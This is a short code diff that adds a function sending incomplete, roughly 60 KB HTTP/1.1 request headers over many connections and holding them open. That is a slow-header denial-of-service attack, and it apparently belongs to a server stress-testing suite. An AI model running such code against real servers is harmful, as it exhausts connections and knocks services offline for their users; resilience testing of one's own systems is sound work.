@@ -78,6 +78,21 @@ def wide_heads(
     return answers
 
 
+def partial_heads(target: Target, stop: Stop, count: int) -> Answers:
+    """Heads of 60 KB by HTTP/1.1 whose end is missing."""
+    answers = Answers()
+    line = b"X-Wide: " + b"z" * HEADS_FIELD + b"\r\n"
+    head = target.request("GET", "/", is_plain=True)[:-2] + line * HEADS_REFERENCES
+
+    def make(_: int):
+        connection = target.plain(ATTACKER)
+        connection.sendall(head)
+        return connection
+
+    hold(open_many(count, make, answers, stop), answers, stop)
+    return answers
+
+
 def pieces_by_http1(target: Target, stop: Stop, count: int, size: int, piece: int) -> Answers:
     """Chunked uploads in small chunks, which then stand still."""
     answers, context = Answers(), target.context()
